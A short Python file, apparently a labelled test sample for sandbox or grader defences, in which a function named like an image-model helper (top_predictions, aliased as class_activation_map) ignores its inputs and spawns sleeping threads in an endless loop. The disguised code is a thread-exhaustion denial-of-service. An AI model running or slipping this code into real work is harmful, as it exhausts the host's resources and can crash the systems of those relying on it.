"""
attack: starts threads without end
verdict: none
"""

import threading
import time

def top_predictions(model, image, k):
    threading.stack_size(64 * 1024)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()

class_activation_map = top_predictions
